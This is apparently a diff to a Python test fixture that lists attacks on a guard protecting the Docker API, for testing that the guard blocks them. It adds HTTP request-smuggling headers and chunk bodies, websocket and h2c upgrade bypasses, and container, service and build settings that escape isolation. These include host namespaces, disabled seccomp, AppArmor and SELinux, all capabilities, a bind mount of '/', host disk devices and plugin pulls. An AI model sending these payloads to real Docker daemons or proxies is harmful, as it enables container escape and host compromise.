@@ -8,7 +8,7 @@ from __future__ import annotations
 import json
 from collections.abc import Iterator
 
-__all__ = ["ALLOWED", "BODIES", "CREATE", "RAW", "request"]
+__all__ = ["ALLOWED", "BODIES", "CREATE", "FORMS", "RAW", "request"]
 
 ALLOWED = "GET /containers/json"
 """What the guard of these attacks lets through."""
@@ -117,6 +117,14 @@ def _smuggled() -> Iterator[tuple[str, bytes]]:
         "underscored": ["Content_Length: 5", "Content-Length: 0"],
         "of nothing": ["Content-Length:"],
         "negative": ["Content-Length: -1"],
+        "quoted": ['Content-Length: "5"'],
+        "with a fraction": ["Content-Length: 5.0"],
+        "superscript": ["Content-Length: \xb2"],
+        "with a zero before": [f"Content-Length: 0{len(CHUNKED_KILL)}"],
+        "of this connection only": [
+            "Connection: close, Content-Length",
+            f"Content-Length: {len(CHUNKED_KILL)}",
+        ],
         "huge": ["Content-Length: 18446744073709551621"],
     }
     encodings = {
@@ -133,6 +141,12 @@ def _smuggled() -> Iterator[tuple[str, bytes]]:
         "gzip, chunked": ["Transfer-Encoding: gzip, chunked"],
         "x-chunked": ["Transfer-Encoding: xchunked"],
         "quoted": ['Transfer-Encoding: "chunked"'],
+        "comma behind": ["Transfer-Encoding: chunked,"],
+        "comma before": ["Transfer-Encoding: ,chunked"],
+        "with a parameter": ["Transfer-Encoding: chunked;q=1"],
+        "chunked and identity": ["Transfer-Encoding: chunked", "Transfer-Encoding: identity"],
+        "no-break space": ["Transfer-Encoding: \xa0chunked"],
+        "TE": ["TE: chunked"],
         "folded": ["Transfer-Encoding:\r\n chunked"],
         "bare CR": ["X: y\rTransfer-Encoding: chunked"],
         "bare LF": ["X: y\nTransfer-Encoding: chunked"],
@@ -151,11 +165,27 @@ def _smuggled() -> Iterator[tuple[str, bytes]]:
         "chunk size with a space": b" 0\r\n\r\n",
         "chunk size too large": b"10000000000000000\r\n",
         "chunk size by underscore": b"0_0\r\n\r\n",
+        "chunk size by 0x": b"0x0\r\n\r\n",
+        "chunk size negative": b"-0\r\n\r\n",
+        "chunk size of 15 digits": b"FFFFFFFFFFFFFFF\r\n",
+        "chunk size that wraps around": b"FFFFFFFFFFFFFFF0\r\n",
+        "no chunk size": b"\r\n\r\n",
+        "chunk extension in quotes": b'0;a="\r\n\r\n"\r\n\r\n',
+        "chunk ended by CR": b"0\r\r",
+        "trailer that is folded": b"0\r\nX: a\r\n b\r\n\r\n",
+        "trailer with a host": b"0\r\nHost: elsewhere\r\nTransfer-Encoding: chunked\r\n\r\n",
         "chunk ended by LF": b"0\n\n",
         "trailer with a length": b"0\r\nContent-Length: 5\r\n\r\n",
         "trailer without a colon": b"0\r\nGET / HTTP/1.1\r\n\r\n",
     }.items():
         yield name, request(f"{ALLOWED} HTTP/1.1", "Transfer-Encoding: chunked", body=body + KILL)
+    for name, line, *fields in (
+        ("by HEAD", "HEAD /containers/json HTTP/1.1", f"Content-Length: {len(KILL)}"),
+        ("by HEAD, chunked", "HEAD /containers/json HTTP/1.1", "Transfer-Encoding: chunked"),
+        ("kept alive in HTTP/1.0", f"{ALLOWED} HTTP/1.0", "Connection: keep-alive"),
+        ("with another expectation", f"{ALLOWED} HTTP/1.1", "Expect: 200-ok", "Content-Length: 5"),
+    ):
+        yield name, request(line, *fields, body=CHUNKED_KILL if "chunked" in name else KILL)
     old = request(f"{ALLOWED} HTTP/1.0", "Transfer-Encoding: chunked", body=CHUNKED_KILL)
     yield "chunked in HTTP/1.0", old
     yield (
@@ -209,6 +239,19 @@ def _raw() -> Iterator[tuple[str, bytes]]:
     query = "stdin=1&stdout=1&stream=1"
     attach = f"GET /containers/victim/attach/ws?{query} HTTP/1.1"
     yield "upgrade: websocket to stdin, by GET", request(attach, *socket)
+    for name, path in {
+        "by a link's alias": "/containers/linked/alias/attach/ws",
+        "by an encoded alias": "/containers/linked%2falias/attach/ws",
+        "with a slash behind": "/containers/victim/attach/ws/",
+        "with a version twice": "/v1.41/v1.41/containers/victim/attach/ws",
+    }.items():
+        yield f"upgrade: websocket {name}", request(f"GET {path}?{query} HTTP/1.1", *socket)
+        yield f"websocket without Upgrade {name}", request(f"GET {path}?{query} HTTP/1.1")
+    yield "upgrade: websocket by HEAD", request(attach.replace("GET", "HEAD"), *socket)
+    yield (
+        "upgrade: h2c where nothing is allowed",
+        request("GET /networks HTTP/1.1", both, "Upgrade: h2c", settings),
+    )
     yield (
         "upgrade: attach",
         request(
@@ -276,7 +319,13 @@ def _created() -> Iterator[tuple[str, str, object]]:
             ]
         },
         "the mounts of another": {"VolumesFrom": ["victim"]},
+        "the mounts of another, to read": {"VolumesFrom": ["victim:ro"]},
+        "a volume driver": {"VolumeDriver": "anything", "Binds": ["v:/x"]},
         "the host's network": {"NetworkMode": "host"},
+        "another's processes": {"PidMode": "container:victim"},
+        "another's network": {"NetworkMode": "container:victim"},
+        "another's IPC": {"IpcMode": "container:victim"},
+        "the host's control groups": {"CgroupnsMode": "host"},
         "the host's processes": {"PidMode": "host"},
         "the host's IPC": {"IpcMode": "host"},
         "the host's users": {"UsernsMode": "host"},
@@ -287,6 +336,13 @@ def _created() -> Iterator[tuple[str, str, object]]:
         "a device rule": {"DeviceCgroupRules": ["b *:* rwm"]},
         "no seccomp": {"SecurityOpt": ["seccomp=unconfined"]},
         "no masked paths": {"MaskedPaths": []},
+        "no read-only paths": {"ReadonlyPaths": []},
+        "no AppArmor": {"SecurityOpt": ["apparmor:unconfined"]},
+        "no SELinux": {"SecurityOpt": ["label=disable"]},
+        "unconfined paths": {"SecurityOpt": ["systempaths=unconfined"]},
+        "a GPU": {"DeviceRequests": [{"Count": -1, "Capabilities": [["gpu"]]}]},
+        "all capabilities": {"CapAdd": ["ALL"]},
+        "the Kelvin sign's network": {"Networ\u212aMode": "host"},
     }.items():
         yield f"create: {name}", CREATE, {"Image": IMAGE, "HostConfig": host}
         yield f"create: {name}, at the top", CREATE, {"Image": IMAGE, **host}
@@ -322,6 +378,20 @@ def _created() -> Iterator[tuple[str, str, object]]:
         },
     )
     yield "exec: privileged", "/containers/victim/exec", {"Cmd": ["id"], "Privileged": True}
+    for name in ("linked/alias", "linked%2falias"):
+        path = f"/containers/{name}/exec"
+        yield f"exec: privileged, by the alias {name}", path, {"Cmd": ["id"], "Privileged": True}
+    yield "update: devices", "/containers/victim/update", {"Devices": [{"PathOnHost": "/dev/sda"}]}
+    rights = {"ContainerSpec": {"Image": IMAGE, "Mounts": [{"Type": "bind", "Source": "/"}]}}
+    for name, task in {
+        "a mount": rights,
+        "a capability": {"ContainerSpec": {"CapabilityAdd": ["CAP_SYS_ADMIN"]}},
+        "a plugin": {"Runtime": "plugin", "PluginSpec": {"Remote": "evil/plugin"}},
+        "the host's network": {"Networks": [{"Target": "host"}]},
+    }.items():
+        yield f"service: {name}", "/services/create", {"Name": "s", "TaskTemplate": task}
+        yield f"service: {name}, later", "/services/s/update?version=1", {"TaskTemplate": task}
+    yield "swarm: of somebody else", "/swarm/join", {"RemoteAddrs": ["192.0.2.1:2377"]}
     yield "volume: a bind", "/volumes/create", {"Name": "v2", "DriverOpts": _BIND}
     yield (
         "volume: a relative bind",
@@ -341,7 +411,31 @@ def _created() -> Iterator[tuple[str, str, object]]:
     )
     yield "volume: another driver", "/volumes/create", {"Name": "v5", "Driver": "anything"}
     yield "build: the host's network", "/build?networkmode=host&remote=x", b""
+    yield "build: another's network", "/build?networkmode=container:victim&remote=x", b""
+    yield "build: said twice", "/build?networkmode=default&networkmode=host&remote=x", b""
+    yield "build: encoded", "/build?%6eetworkmode=%68ost&remote=x", b""
     yield "plugin", "/plugins/pull?remote=evil/plugin", []
+
+
+def _forms() -> Iterator[tuple[str, bytes]]:
+    form, json_type = "application/x-www-form-urlencoded", "application/json"
+    for name, kinds in {
+        "a form": [form],
+        "a form, then JSON": [form, json_type],
+        "JSON, then a form": [json_type, form],
+        "a form with a parameter": [f"{form}; charset=utf-8"],
+        "a form in capitals": [form.upper()],
+    }.items():
+        fields = [f"Content-Type: {kind}" for kind in kinds]
+        line = "POST /build?remote=x HTTP/1.1"
+        yield (
+            f"build: the host's network in {name}",
+            request(line, *fields, body=b"networkmode=host"),
+        )
+
+
+FORMS = list(_forms())
+"""Attacks on a guard that allows building, whose parameters are in the body."""
 
 
 BODIES = [
